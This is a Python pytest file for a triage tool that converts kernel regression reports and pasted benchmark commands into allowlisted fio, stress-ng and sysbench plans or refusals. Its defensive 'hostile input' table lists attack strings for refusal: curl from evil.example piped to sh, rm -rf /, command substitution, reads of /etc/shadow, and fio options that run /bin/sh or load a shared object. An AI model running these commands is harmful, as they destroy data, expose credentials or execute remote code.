"""Reproduce stage: templates load and validate; reports and pasted commands become plans or refusals."""
from __future__ import annotations

import json
import subprocess
import sys

import pytest

from tests.conftest import PROJECT, require_corpus
from triagebot.errors import RulesError
from triagebot.parse.report import parse_message
from triagebot.records.report import Headline, Report, Source
from triagebot.reproduce.plan import (
    HostShape,
    Plan,
    Refusal,
    flatten_job,
    plan_command,
    plan_from_json,
    plan_report,
    read_job,
)
from triagebot.rules.templates import PARSERS, Templates, load_template_file, load_templates

RULES = PROJECT / "rules"
TEMPLATES = load_templates(RULES)


def _corpus_report(name: str) -> Report:
    return parse_message((require_corpus() / name).read_bytes(), Source("eml"))


def _corpus_names(*prefixes: str) -> list[str]:
    corpus = require_corpus()
    rows = [line.split("\t") for line in (corpus.parent / "INDEX.tsv").read_text().splitlines()[1:]]
    return sorted(row[0] for row in rows if row[1] in prefixes)


def _expect(result, expected: str) -> None:
    kind, _, detail = expected.partition(":")
    if kind == "plan":
        assert isinstance(result, Plan), f"expected a {detail} plan, got a refusal: {result}"
        assert result.template == detail
    else:
        assert isinstance(result, Refusal), f"expected a refusal ({detail}), got {result}"
        assert detail in result.reason, result.reason


def _assert_allowlisted(plan: Plan) -> None:
    """argv[0] is the template's program and every option is on the template's allowlist."""
    template = TEMPLATES.named(plan.template)
    assert template is not None
    allowed = template.allowed_options()
    for argv in (plan.argv, plan.setup_argv, plan.cleanup_argv):
        if not argv:
            continue
        assert argv[0] == template.program
        assert tuple(argv[1:1 + len(template.subcommand)]) == template.subcommand
        for word in argv[1 + len(template.subcommand):]:
            if word.startswith("-"):
                assert word.split("=", 1)[0] in allowed, f"{word} not on the {template.name} allowlist"
        assert all(len(word) <= 4096 for word in argv)


# --- the templates ------------------------------------------------------------------------------

def test_every_benchmark_has_a_template_with_a_known_parser():
    names = {template.name for template in TEMPLATES}
    assert {"fio", "sysbench-fileio", "sysbench-cpu", "sysbench-memory", "sysbench-threads", "stress-ng",
            "fs_mark", "hackbench", "perf-bench-sched-messaging", "perf-bench-sched-pipe", "lkp"} <= names
    for template in TEMPLATES:
        assert template.parser in PARSERS
        # a lab-installed tool's program may run from where the host keeps it ({tool}/…, env -C {tool})
        assert template.argv[0] == template.program or (
            template.tool and any(word.endswith(template.program) for word in template.argv))
    assert TEMPLATES.named("fio").parser == "fio-json"
    assert "--output-format=json" in TEMPLATES.named("fio").argv
    assert TEMPLATES.named("stress-ng").parser == "stress-ng-yaml"


_GOOD = """
program = "fio"
parser = "fio-json"
argv = ["fio", "{options}"]
primary_metric = "write_iops"
[params.numjobs]
type = "int"
flag = "--numjobs"
min = 1
max = 64
[[metrics]]
name = "write_iops"
better = "higher"
"""

# Each broken template: (what is changed, the fragment the error must hold).
_BROKEN = [
    # a default outside its range
    (_GOOD.replace("max = 64", "max = 64\ndefault = 100"), "[params.numjobs]: default 100 is above max 64"),
    # min above max
    (_GOOD.replace("min = 1", "min = 100"), "[params.numjobs]: min 100 is above max 64"),
    # a shell string instead of an argv list
    (_GOOD.replace('argv = ["fio", "{options}"]', 'argv = "fio --name x; rm -rf /"'),
     ":4: argv must be a list of strings, not a shell string"),
    # an output parser nobody implements
    (_GOOD.replace('"fio-json"', '"fio-xml"'), "parser must be one of fio-json, sysbench-text"),
    # a better direction that is neither
    (_GOOD.replace('better = "higher"', 'better = "up"'),
     "[[metrics]] entry 1 (write_iops): better must be one of higher, lower, not 'up'"),
    # an argv placeholder naming no parameter
    (_GOOD.replace('"{options}"]', '"{options}", "--size={size}"]'), "names unknown parameter 'size'"),
    # a shell metacharacter inside an argv element
    (_GOOD.replace('"{options}"]', '"{options}", "--name=a;b"]'), "shell metacharacter"),
    # a path default outside the scratch dir
    (_GOOD + '[params.dir]\ntype = "path"\nkind = "dir"\ndefault = "/tmp"\n', "must be inside the scratch dir"),
    # an enum default not among the choices
    (_GOOD + '[params.rw]\ntype = "enum"\nchoices = ["read"]\ndefault = "write"\n', "[params.rw]: default 'write'"),
    # a size limit that is no size
    (_GOOD + '[params.bs]\ntype = "size"\nmax = "lots"\n', "[params.bs]: max must be a size string"),
    # an unknown parameter type
    (_GOOD + '[params.x]\ntype = "float"\n', "[params.x]: type must be one of"),
    # a primary metric not among the metrics
    (_GOOD.replace('primary_metric = "write_iops"', 'primary_metric = "read_iops"'),
     "primary_metric 'read_iops' is not one of the [[metrics]] names"),
    # a key the format does not have
    ('shell = true\n' + _GOOD, "broken.toml:1: unknown key(s) shell (expected aliases, argv,"),
    # not TOML at all
    ("program = ", "not valid TOML"),
    # a process count on something that is no count
    (_GOOD + '[params.bs]\ntype = "size"\nmax = "1M"\ntasks = 1\n', "[params.bs]: tasks and tasks_times are for int"),
    # a product of counts without saying how many processes each unit starts
    (_GOOD.replace("max = 64", 'max = 64\ntasks_times = ["numjobs"]'), "tasks_times needs tasks"),
    (_GOOD.replace("max = 64", 'max = 64\ntasks = 1\ntasks_times = ["groups"]'), "names unknown parameter 'groups'"),
    (_GOOD.replace("max = 64", "max = 64\ntasks = -1"),
     "[params.numjobs]: tasks must be a whole number from 0 to 10000, not -1"),
    # an assumed program default outside the range, or beside a default of the template's own
    (_GOOD.replace("max = 64", "max = 64\nassume = 100"), "[params.numjobs]: assume 100 is above max 64"),
    (_GOOD.replace("max = 64", "max = 64\ndefault = 1\nassume = 2"), "assume is for a parameter without a default"),
    # a relative rendering or host choices on the wrong type, a host list nobody gives
    (_GOOD.replace("max = 64", "max = 64\nrelative = true"), "[params.numjobs]: relative is for path parameters"),
    (_GOOD.replace("max = 64", 'max = 64\nhost_choices = "stressors"'), "host_choices is for enum parameters"),
    (_GOOD + '[params.rw]\ntype = "enum"\nchoices = ["read"]\nhost_choices = "fonts"\n',
     "[params.rw]: host_choices must be one of stressors"),
    # an input file outside the scratch dir, with a line break, or naming no parameter
    (_GOOD + '[input]\npath = "/etc/passwd"\nlines = ["x"]\n', "[input]: path must be a file name in the scratch"),
    (_GOOD + '[input]\npath = "{scratch}/in"\nlines = ["a\\nb"]\n', "holds a line break"),
    (_GOOD + '[input]\npath = "{scratch}/in"\nlines = ["set {size}"]\n', "names unknown parameter 'size'"),
    # LKP notes that say nothing, derived or divided values naming no parameter
    (_GOOD + '[lkp.notes]\nfs2 = ""\n', "'fs2' must be a sentence"),
    (_GOOD + '[lkp.derive.dirs]\ndivide = "numjobs"\nby = "numjobs"\n', "must name parameters of this template"),
    (_GOOD + '[lkp.params.size]\nparam = "numjobs"\ndivide_by = ["numjobs"]\ndivide_floor = { numjobs = 0 }\n',
     "divide_floor must map divide_by parameters"),
    (_GOOD + '[lkp.params.size]\nparam = "numjobs"\nmost = 10\n', "most must be a whole number"),
    # a headline pattern without its parameter, an always-set value of no parameter
    (_GOOD + '[lkp.from_headline.test]\npattern = "fio.*"\nnote = "n"\n', "pattern must be a metric name holding"),
    (_GOOD + '[lkp.always]\nverify = "1"\n', "'verify' must name a parameter of this template"),
    (_GOOD + '[lkp.per_unit]\nnumjobs = "numjobs"\n', "'numjobs' must name a path parameter"),
    ('caveats = [""]\n' + _GOOD, "caveats must be a list of sentences"),
]


@pytest.mark.parametrize("text,fragment", _BROKEN, ids=[fragment[:40] for _, fragment in _BROKEN])
def test_a_broken_template_is_a_rules_error_naming_file_and_entry(tmp_path, text, fragment):
    path = tmp_path / "reproducers" / "broken.toml"
    path.parent.mkdir()
    path.write_text(text)
    with pytest.raises(RulesError) as caught:
        load_templates(tmp_path)
    message = str(caught.value)
    assert str(path) in message
    assert fragment in message


def test_the_good_template_loads(tmp_path):
    path = tmp_path / "good.toml"
    path.write_text(_GOOD)
    template = load_template_file(path)
    assert template.name == "good" and template.allowed_options() == {"--numjobs"}


def test_two_templates_claiming_one_lkp_testcase_are_refused(tmp_path):
    folder = tmp_path / "reproducers"
    folder.mkdir()
    for name in ("a", "b"):
        (folder / f"{name}.toml").write_text(_GOOD + '[lkp]\ntestcases = ["fio-basic"]\n')
    with pytest.raises(RulesError, match="testcase 'fio-basic' is already mapped"):
        load_templates(tmp_path)


# --- (1) every LKP report of the corpus ---------------------------------------------------------

# file -> "plan:<template>" or "refused:<reason fragment>"
LKP_EXPECTED = {
    "lkp-func_ext4-BUG-sleeping-function.eml": "refused:testcase xfstests has no template",
    "lkp-func_ext4-INFO-task-blocked.eml": "refused:testcase xfstests has no template",
    "lkp-func_ext4-WARNING-invalidate_folio.eml": "refused:testcase ltp has no template",
    "lkp-func_ext4-xfstests-ext4.059.eml": "refused:testcase xfstests has no template",
    "lkp-func_fs-KCSAN-atime.eml": "refused:testcase trinity has no template",
    "lkp-func_fs-kernel_BUG-page-flags.eml": "refused:testcase boot has no template",
    "lkp-func_fsdax-WARNING-truncate.eml": "refused:testcase xfstests has no template",
    "lkp-func_iomap-KASAN-uaf-ifs_free.eml": "refused:testcase xfstests has no template",
    "lkp-func_iomap-xfstests-generic.439.eml": "refused:testcase xfstests has no template",
    "lkp-func_mm-BUG-NULL-deref.eml": "refused:testcase trinity has no template",
    "lkp-func_vmscan-KASAN-stack-oob.eml": "refused:testcase boot has no template",
    "lkp-func_xfs-KASAN-uaf-defer.eml": "refused:testcase xfstests has no template",
    "lkp-func_xfs-WARNING-iomap-delalloc.eml": "refused:testcase xfstests has no template",
    "lkp-improve_ext4-aim7-249pct.eml": "refused:testcase aim7 has no template",
    "lkp-improve_ext4-fio-write_iops-364pct.eml": "plan:fio",
    "lkp-improve_ext4-fsize-23.3pct.eml": "plan:stress-ng",
    "lkp-improve_ext4-metamix-22.9pct.eml": "plan:stress-ng",
    "lkp-improve_iomap-fio-write_iops-5.8pct.eml": "plan:fio",
    "lkp-improve_iov_iter-fio-read_iops-126pct.eml": "plan:fio",
    "lkp-improve_jbd2-fiemap-565pct.eml": "plan:stress-ng",
    "lkp-improve_jbd2-fxmark-10.9pct.eml": "refused:the fxmark template needs fxmark",
    "lkp-improve_xfs-chmod-3807pct.eml": "plan:stress-ng",
    "lkp-improve_xfs-chown-70.2pct.eml": "plan:stress-ng",
    "lkp-perf_ext4-aim7-22.9pct.eml": "refused:testcase aim7 has no template",
    "lkp-perf_ext4-fiemap-15.8pct.eml": "plan:stress-ng",
    "lkp-perf_ext4-fio-write_iops-2.5pct.eml": "plan:fio",
    "lkp-perf_ext4-fxmark-9.8pct.eml": "refused:the fxmark template needs fxmark",
    "lkp-perf_fs-phoronix-fio-4.3pct.eml": "refused:testcase phoronix-test-suite has no template",
    "lkp-perf_fsnotify-unixbench-3.3pct.eml": "refused:the unixbench template needs unixbench",
    "lkp-perf_iomap-metamix-98.4pct.eml": "plan:stress-ng",
    "lkp-perf_jbd2-utime-42.3pct.eml": "plan:stress-ng",
    "lkp-perf_super-unlink-23.3pct.eml": "plan:stress-ng",
    "lkp-perf_xfs-aim7-6.3pct-2019.eml": "refused:testcase aim7 has no template",
    "lkp-perf_xfs-aim7-62.2pct.eml": "refused:testcase aim7 has no template",
    "lkp-perf_xfs-filebench-40.3pct.eml": "refused:the filebench template needs filebench",
    "lkp-perf_xfs-filebench-85pct.eml": "refused:the filebench template needs filebench",
    "lkp-perf_xfs-fsmark-5.7pct.eml": "plan:fs_mark",
    "lkp-perf_xfs-mgtime-fio-write_iops-34.9pct.eml": "plan:fio",
    "lkp-perf_xfs-vm-scalability-91.7pct.eml": "refused:testcase vm-scalability has no template",
}


def test_the_table_covers_every_lkp_report_in_the_corpus():
    assert sorted(LKP_EXPECTED) == _corpus_names("lkp-perf", "lkp-improve", "lkp-func")


@pytest.mark.parametrize("name", sorted(LKP_EXPECTED))
def test_lkp_reports_plan_or_refuse(name):
    report = _corpus_report(name)
    result = plan_report(report, TEMPLATES)
    _expect(result, LKP_EXPECTED[name])
    assert result.message_id == report.message_id
    if isinstance(result, Plan):
        _assert_allowlisted(result)
        assert result.source in ("lkp-testcase", "job.yaml")
        # The headline metric is one the template yields, with the report's signed change.
        assert result.report_metric is not None and result.reported_change_percent is not None
        assert result.better == "higher"
        assert json.loads(json.dumps(result.to_json())) == result.to_json()
        assert plan_from_json(result.to_json()) == result
    else:
        assert result.missing


def test_an_lkp_fio_plan_scales_to_the_host_and_says_so():
    plan = plan_report(_corpus_report("lkp-improve_ext4-fio-write_iops-364pct.eml"), TEMPLATES)
    assert isinstance(plan, Plan) and plan.source == "job.yaml"
    assert plan.argv == ("fio", "--name=triage", "--directory={scratch}", "--rw=randwrite", "--bs=4K",
                         "--ioengine=sync", "--numjobs=1", "--size=10G", "--runtime=120s", "--time_based",
                         "--group_reporting", "--output-format=json")
    assert (plan.metric, plan.better, plan.report_metric, plan.reported_change_percent) == \
        ("write_iops", "higher", "fio.write_iops", 364.6)
    assert plan.output_metric == "fio.write_iops" and plan.collect == ()
    assert any("nr_task 50%" in item for item in plan.scaled)
    assert any(item.startswith("size 200G → 10G") for item in plan.scaled)
    assert any(item.startswith("runtime 200s → 120s") for item in plan.scaled)
    assert any("ext4 on 2pmem, mount option dax; the host lists no scratch device" in item
               for item in plan.storage_differs)
    # a bigger host is given more
    big = plan_report(_corpus_report("lkp-improve_ext4-fio-write_iops-364pct.eml"), TEMPLATES,
                      host=HostShape(threads=16, memory_gb=64, scratch_gb=400))
    assert "--numjobs=8" in big.argv and "--size=25G" in big.argv


def test_job_yaml_and_report_parameters_give_the_same_plan():
    """Where a report carries both, the job.yaml route and the testcase route agree on argv."""
    for name in ("lkp-perf_xfs-fsmark-5.7pct.eml", "lkp-perf_ext4-fio-write_iops-2.5pct.eml"):
        report = _corpus_report(name)
        from_job = plan_report(report, TEMPLATES)
        without_job = Report(**{**report.__dict__, "reproducers": ()})
        from_parameters = plan_report(without_job, TEMPLATES)
        assert from_job.source == "job.yaml" and from_parameters.source == "lkp-testcase"
        assert from_job.argv == from_parameters.argv


def test_fsmark_maps_lkp_parameters():
    plan = plan_report(_corpus_report("lkp-perf_xfs-fsmark-5.7pct.eml"), TEMPLATES)
    # lkp-tests' own reproduce script ran `fs_mark -d …/1 … -d …/32 -D 16 -N 256 -n 25600 -L 8 -S 1
    # -s 8192`: each thread its directory and 25600 files an iteration, on fewer threads here
    assert plan.argv == ("fs_mark", "-d", "fs-1", "-d", "fs-2", "-s", "8192", "-n", "25600", "-t", "2", "-S", "1",
                         "-D", "16", "-N", "256", "-L", "3")
    assert plan.metric == "files_per_sec" and plan.reported_change_percent == -5.7


def test_a_headline_the_template_does_not_yield_falls_back_to_the_primary_metric():
    plan = plan_report(_corpus_report("lkp-perf_super-unlink-23.3pct.eml"), TEMPLATES)
    assert plan.metric == "ops_per_sec" and plan.report_metric == "stress-ng.unlink.ops_per_sec"
    # the name triagebot.reproduce.outputs gives the metric, and the YAML file it reads
    assert plan.output_metric == "stress-ng.unlink.ops_per_sec"
    assert plan.collect == ("{scratch}/stress-ng.yaml",) and "{scratch}/stress-ng.yaml" in plan.argv
    assert any("unlink_calls_per_sec is not one stress-ng yields" in item for item in plan.notes)


def _lkp_report(testcase: str, parameters: dict[str, str], headline: Headline | None = None) -> Report:
    return Report(message_id="hand@example", in_reply_to=None, subject="s", from_="f", date=None,
                  source=Source("text"), kind="lkp-regression", testcase=testcase,
                  parameters=tuple(parameters.items()), headline=headline)


def test_the_issue_fileio_example_becomes_a_sysbench_fileio_plan():
    report = _lkp_report("fileio", {"rwmode": "seqwr", "iomode": "sync", "filenum": "1024f", "size": "64G",
                                    "nr_threads": "100%", "period": "600s", "disk": "1HDD", "fs": "ext4"},
                         Headline("fileio.latency_95th_ms", 92.5, "regression"))
    plan = plan_report(report, TEMPLATES)
    assert isinstance(plan, Plan) and plan.template == "sysbench-fileio"
    assert plan.argv == ("sysbench", "fileio", "--file-test-mode=seqwr", "--file-io-mode=sync", "--file-num=1024",
                         "--file-total-size=10G", "--threads=2", "--time=120", "run")
    assert plan.setup_argv[-1] == "prepare" and plan.cleanup_argv[-1] == "cleanup"
    assert (plan.metric, plan.better, plan.reported_change_percent) == ("latency_95th_ms", "lower", 92.5)
    assert plan.output_metric == "sysbench.fileio.latency_95th_ms"
    assert any(item.startswith("file_total_size 64G → 10G") for item in plan.scaled)
    _assert_allowlisted(plan)


def test_hand_written_lkp_reports_for_other_templates():
    hackbench = plan_report(_lkp_report("hackbench", {"nr_threads": "50%", "mode": "threads", "ipc": "pipe"}),
                            TEMPLATES)
    assert hackbench.argv == ("hackbench", "--groups", "1", "--loops", "1000", "--pipe", "--threads")
    stress = plan_report(_lkp_report("stress-ng", {"test": "rename", "nr_threads": "100%", "testtime": "600s"},
                                     Headline("stress-ng.rename.ops_per_sec", -12.0, "regression")), TEMPLATES)
    assert stress.argv[:5] == ("stress-ng", "--rename", "2", "--timeout", "60s")
    assert stress.report_metric == "stress-ng.rename.ops_per_sec" and stress.reported_change_percent == -12.0
    unknown = plan_report(_lkp_report("stress-ng", {"test": "sock", "nr_threads": "1"}), TEMPLATES)
    assert isinstance(unknown, Refusal) and "LKP parameter test=sock is not one of the choices" in unknown.reason
    no_testcase = plan_report(_lkp_report("aim7", {"test": "disk_cp"}), TEMPLATES)
    assert no_testcase.reason == "testcase aim7 has no template"


def test_the_job_reader_reads_the_lkp_subset():
    text = ("---\n\n#! jobs/fio.yaml\nsuite: fio-basic\ntestcase: fio-basic\nruntime: 300s\nfs:\n  fs: ext4\n"
            "  mount_option: dax\nfio-setup-basic:\n  rw: write\n  bs: '4k'\nfio:\nqueue_cmdline_keys:\n- branch\n"
            "- commit\nucode: \"0xec\"\n:#! hosts/x:\nmemory: 32G\n")
    document = read_job(text)
    assert document["testcase"] == "fio-basic" and document["fio"] is None
    assert document["queue_cmdline_keys"] == ["branch", "commit"]
    assert flatten_job(document) == {"suite": "fio-basic", "testcase": "fio-basic", "runtime": "300s",
                                     "fs": "ext4", "mount_option": "dax", "rw": "write", "bs": "4k",
                                     "ucode": "0xec", "memory": "32G"}
    # CRLF line endings read the same
    assert read_job(text.replace("\n", "\r\n")) == document


# --- (2) every human command of the corpus ------------------------------------------------------

# command (as the parser joined it) -> "plan:<template>" or "refused:<reason fragment>"
COMMANDS_EXPECTED = {
    # btrfs: ${MNT} is the writer's mount point -> the scratch dir; 32 jobs x 100G scaled down
    "fio --group_reporting --eta=always --eta-interval=30s --eta-newline=30s --rw=write --fallocate=none "
    "--direct=1 --ioengine=libaio --iodepth=32 --filesize=100G --blocksize=64k --time_based --runtime=300s "
    "--end_fsync=1 --directory=${MNT} --name=writer --numjobs=32": "plan:fio",
    # the script's create-only pass, its wrapped redirection now joined: shell syntax
    "/usr/bin/fio --name=16kb_rand_write_only_2048_jobs --directory=/dbdata --rw=randwrite --ioengine=sync "
    "--fdatasync=1 --buffered=1 --bs=16k --max-jobs=2048 --numjobs=2048 --runtime=30 --thread "
    "--filesize=28800000 --fsync=1 --group_reporting --create_only=1 > /dev/null": "refused:'>' (a redirection)",
    "/usr/bin/fio --name=16kb_rand_write_only_2048_jobs --directory=/dbdata --rw=randwrite --ioengine=sync "
    "--fdatasync=1 --buffered=1 --bs=16k --max-jobs=2048 --numjobs=2048 --runtime=60 --time_based --thread "
    "--filesize=28800000 --fsync=1 --group_reporting": "plan:fio",
    # a job file piped into grep: shell syntax
    "fio fio_jobfile | grep -i IOPS": "refused:'|' (a pipe)",
    # --name=global defines no job
    # the whole wrapped command: four jobs after a global section; zero_buffers is not allowed
    "fio --name=global --rw=write -bs=1024Ki -size=32Gi -runtime=30 -iodepth 1 -ioengine sync -zero_buffers=1 "
    "-direct=0 -end_fsync=1 -numjobs=1 -name write-bandwidth-1 -filename=/mnt/test/sub1/1.txt "
    "-name write-bandwidth-2 -filename=/mnt/test/sub2/1.txt -name write-bandwidth-3 -filename=/mnt/test/sub3/1.txt "
    "-name write-bandwidth-4 -filename=/mnt/test/sub4/1.txt": "refused:fio option --zero_buffers is not on",
    # backticks, variables and an append redirection
    "fio --ioengine libaio --size=2G --direct=1 --filename=${MNT}/file --iodepth=64 --time_based=1 --thread=1 "
    "--overwrite=1 --bs=${BS} --rw=$RW --name \"`uname -r`-${TYPE}-${RW}-${BS}-${FS}\" --runtime=100 "
    "--output-format=terse >> ${LOG}": "refused:a backtick (command substitution)",
    "fio --ioengine libaio --size=2G --direct=1 --iodepth=64 --time_based=1 --thread=1 --overwrite=1 "
    "--runtime=100 --output-format=terse": "plan:fio",
    # once cut after its first line (and planned without half its options); whole, it is refused
    "fio -name write-bandwidth -rw=write -bs=1024Ki -size=32Gi -runtime=30 -iodepth 1 -ioengine sync "
    "-zero_buffers=1 -direct=0 -end_fsync=1 -numjobs=4 -directory=/mnt/test":
        "refused:fio option --zero_buffers is not on",
    "fio --name=test --rw=read --bs=256k --filename=/mnt/testfile --direct=1 --numjobs=1 --iodepth=64 --exitall "
    "--group_reporting --ioengine=libaio --runtime=30 --time_based": "plan:fio",
    # the same on the raw md device, which is no scratch space
    "fio --name=test --rw=read --bs=256k --filename=/dev/md127 --direct=1 --numjobs=1 --iodepth=64 --exitall "
    "--group_reporting --ioengine=libaio --runtime=30 --time_based": "refused:--filename=/dev/md127 is a raw device",
    "fio --eta=always --output=runlogs/randwrite4k_64jobs.out -name fio.test --directory=/data --rw=randwrite "
    "--bs=4k --size=4G --ioengine=libaio --iodepth=16 --direct=1 --time_based=1 --runtime=900 --randrepeat=1 "
    "--gtod_reduce=1 --group_reporting=1 --numjobs=64": "plan:fio",
    # stress-ng has no --file-path option
    "./stress-ng --xattr 8 -t 120 --vmstat 1 --file-path /mnt": "refused:option --file-path is not on the stress-ng",
    "stress-ng --timeout 60 --times --verify --metrics --no-rand-seed --metamix 64": "plan:stress-ng",
}


def _corpus_commands() -> dict[str, list[str]]:
    corpus = require_corpus()
    found: dict[str, list[str]] = {}
    for path in sorted(corpus.iterdir()):
        if path.suffix not in (".eml", ".txt"):
            continue
        report = parse_message(path.read_bytes(), Source("eml"))
        for item in report.reproducers:
            if item.kind in ("fio", "sysbench", "fs_mark", "stress-ng") and item.command:
                found.setdefault(item.command, []).append(path.name)
    return found


def test_every_human_command_in_the_corpus_is_in_the_table():
    assert sorted(_corpus_commands()) == sorted(COMMANDS_EXPECTED)


@pytest.mark.parametrize("command", sorted(COMMANDS_EXPECTED))
def test_human_commands_plan_or_refuse(command):
    result = plan_command(command, TEMPLATES)
    _expect(result, COMMANDS_EXPECTED[command])
    if isinstance(result, Plan):
        _assert_allowlisted(result)
        assert result.source == "human-command"


def test_human_reports_plan_from_their_command():
    plan = plan_report(_corpus_report("human_xfs-randio-many-tasks-regression.eml"), TEMPLATES)
    assert isinstance(plan, Plan) and plan.message_id == "87czjb9haq.fsf@debian-BULLSEYE-live-builder-AMD64"
    assert "--directory={scratch}" in plan.argv and "--numjobs=8" in plan.argv
    assert not any(word.startswith(("--output=", "--eta")) for word in plan.argv)
    assert any("numjobs 64 → 8" in item for item in plan.scaled)
    assert any("/data → {scratch}" in item for item in plan.notes)
    none = plan_report(_corpus_report("human_ext4-fio-iops-drop-v5.10.eml"), TEMPLATES)
    assert isinstance(none, Refusal) and none.reason == \
        "the report names fio but carries no command line a template runs"


def test_a_given_scratch_dir_replaces_the_placeholder():
    plan = plan_command("fio --name=x --filename=/mnt/f --rw=write --size=1G", TEMPLATES, scratch_dir="/srv/scratch")
    assert "--filename=/srv/scratch/f" in plan.argv and "--directory=/srv/scratch" in plan.argv
    assert not any("{scratch}" in word for word in plan.argv)


# Hand-written commands for the templates the corpus has no command for.
HAND_WRITTEN = {
    "sysbench fileio --file-test-mode=rndwr --file-total-size=64G --threads=100 --time=600 run":
        ("sysbench", "fileio", "--file-test-mode=rndwr", "--file-total-size=10G", "--threads=8", "--time=120", "run"),
    "sysbench --test=fileio --file-test-mode=seqrd --num-threads=4 run":
        ("sysbench", "fileio", "--file-test-mode=seqrd", "--threads=4", "--file-total-size=2G", "--time=60", "run"),
    "sysbench cpu --cpu-max-prime=20000 --threads=16 run":
        ("sysbench", "cpu", "--cpu-max-prime=20000", "--threads=2", "--time=30", "run"),
    "sysbench memory --memory-block-size=1G --memory-total-size=100G --threads=2 run":
        ("sysbench", "memory", "--memory-block-size=1G", "--memory-total-size=100G", "--threads=2", "--time=30", "run"),
    "sysbench threads --thread-yields=100 --thread-locks=4 --threads=64 run":
        ("sysbench", "threads", "--thread-yields=100", "--thread-locks=4", "--threads=8", "--time=30", "run"),
    "fs_mark -d /mnt/test -s 4096 -n 100000 -t 64 -S 0 -L 10":
        ("fs_mark", "-d", ".", "-s", "4096", "-n", "100000", "-t", "2", "-S", "0", "-L", "3"),
    "hackbench -g 20 -l 10000 --pipe --threads":
        ("hackbench", "--groups", "2", "--loops", "10000", "--pipe", "--threads"),
    "perf bench sched messaging -g 24 -l 500 -t":
        ("perf", "bench", "sched", "messaging", "--group", "2", "--nr_loops", "500", "--thread"),
    "sudo perf bench sched pipe -l 1000000 -T":
        ("perf", "bench", "sched", "pipe", "--loop", "1000000", "--threaded"),
    "stress-ng --rename 4 --timeout 30s":
        ("stress-ng", "--rename", "2", "--timeout", "30s", "--temp-path", "{scratch}", "--metrics-brief",
         "--yaml", "{scratch}/stress-ng.yaml"),
}


@pytest.mark.parametrize("command", sorted(HAND_WRITTEN))
def test_hand_written_commands_for_every_template(command):
    plan = plan_command(command, TEMPLATES)
    assert isinstance(plan, Plan), plan
    assert plan.argv == HAND_WRITTEN[command]
    _assert_allowlisted(plan)


# --- (3) hostile input --------------------------------------------------------------------------

# command -> a fragment the refusal's reason must hold (naming what was refused)
HOSTILE = {
    "fio --name=x; rm -rf ~": "';' (a command separator)",
    "fio --name=x && curl http://evil.example/x | sh": "'&&' (a command list)",
    "fio --name=$(id -u) --rw=write": "'$(…)' (command substitution)",
    "fio --name=`id -u` --rw=write": "a backtick (command substitution)",
    "fio --name=x --rw=write > /etc/passwd": "'>' (a redirection)",
    "fio --name=x --rw=write < /etc/shadow": "'<' (a redirection)",
    "fio --name=x --rw=write >> log": "'>' (a redirection)",
    "fio --name=x & fio --name=y": "'&' (a background job)",
    "fio --name=x\nrm -rf /": "a newline",
    "fio --name=x --exec_prerun=/bin/sh": "fio option --exec_prerun runs a program: refused",
    "fio --name=x --exec_postrun 'rm -rf /'": "fio option --exec_postrun runs a program: refused",
    "fio --name=x --ioengine=external:/tmp/evil.so":
        "fio option --ioengine=external:/tmp/evil.so loads a shared object",
    "fio --name=x --ioengine=exec": "fio option --ioengine=exec runs a program",
    "fio --name=x --filename=/dev/sda --rw=write": "--filename=/dev/sda is a raw device",
    "fio --name=x --directory=../../etc --rw=write": "--directory=../../etc has a '..' path component",
    "fio --name=x --filename=/mnt/../../etc/passwd": "'..' path component",
    "fio --name=x --rw=write " + "--bs=" + "1" * 10_000: "option --bs is 10005 characters long (limit 4096)",
    "fio --name=" + "a" * 10_000: "option --name is 10007 characters long (limit 4096)",
    "fio " + "x" * 10_000: "is 10000 characters long (limit 4096)",
    "fio --name=x --trigger='reboot'": "fio option --trigger runs a program",
    "fio --name=x --no-such-option=1": "fio option --no-such-option is not on the fio template's allowlist",
    "fio --name=x --rw=write --bs=${BS}": "--bs=${BS} holds a shell variable",
    "fio --name=x --iodepth=100000": "100000 is above the template's maximum 4096",
    "fio --name=x --rw=scribble": "--rw=scribble is not one of the choices",
    "fio --name 'unterminated": "cannot be split into words",
    "bash -c 'fio --name=x'": "program 'bash' has no template",
    "python3 -c 'import os'": "program 'python3' has no template",
    "stress-ng --exec 4": "stress-ng option --exec runs other programs",
    "stress-ng --timeout 60s": "names no test (such as --fiemap N)",
    "sysbench oltp_read_write run": "none of the tests with a template",
    "fs_mark -d /dev/nvme0n1 -s 4096": "-d=/dev/nvme0n1 is a raw device",
}


@pytest.mark.parametrize("command", sorted(HOSTILE))
def test_hostile_commands_are_refused_with_the_reason(command):
    result = plan_command(command, TEMPLATES)
    assert isinstance(result, Refusal), result
    assert HOSTILE[command] in result.reason, result.reason
    assert "\n" not in result.reason or "newline" in result.reason


# --- (6) the command line -----------------------------------------------------------------------

_SHIM = ("import argparse, sys\nfrom triagebot.cli import plan as command\n"
         "parser = argparse.ArgumentParser(prog='triage plan')\ncommand.add_arguments(parser)\n"
         "sys.exit(command.run(parser.parse_args(sys.argv[1:])))\n")


def _triage_plan(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", _SHIM, *args], capture_output=True, text=True, cwd=PROJECT,
                          timeout=60)


def test_plan_command_json_for_a_plan_and_a_refusal():
    done = _triage_plan("--command", "fio --name x --rw=randread --numjobs=64 --size=8G", "--json")
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["kind"] == "plan" and data["template"] == "fio" and data["metric"] == "read_iops"
    assert data["argv"][0] == "fio" and "--numjobs=8" in data["argv"]
    assert Plan.from_json(data).argv == tuple(data["argv"])
    refused = _triage_plan("--command", "fio --name x --exec_prerun=/bin/sh", "--json")
    assert refused.returncode == 1
    refusal = json.loads(refused.stdout)
    assert refusal["kind"] == "refusal" and "--exec_prerun" in refusal["reason"]
    text = _triage_plan("--command", "fio --filename=/dev/sda")
    assert text.returncode == 1 and text.stdout.startswith("refused: ") and "Traceback" not in text.stderr


def test_plan_command_usage_errors_and_unknown_ids(tmp_path):
    assert _triage_plan().returncode == 2
    both = _triage_plan("some@id", "--command", "fio --name=x")
    assert both.returncode == 2 and "not both" in both.stderr
    missing = _triage_plan("nobody@example", "--db", str(tmp_path / "none.db"))
    assert missing.returncode == 1 and "no such message" in missing.stderr and "Traceback" not in missing.stderr


def test_plan_a_stored_report(tmp_path):
    from triagebot.store.sqlite import SqliteStore
    report = _lkp_report("stress-ng", {"test": "fiemap", "nr_threads": "100%", "testtime": "60s"},
                         Headline("stress-ng.fiemap.ops_per_sec", -15.8, "regression"))
    database = tmp_path / "triage.db"
    with SqliteStore(database) as store:
        store.put_message("hand@example", b"Subject: s\n\nbody\n", "eml", None, "2024-01-01T00:00:00Z")
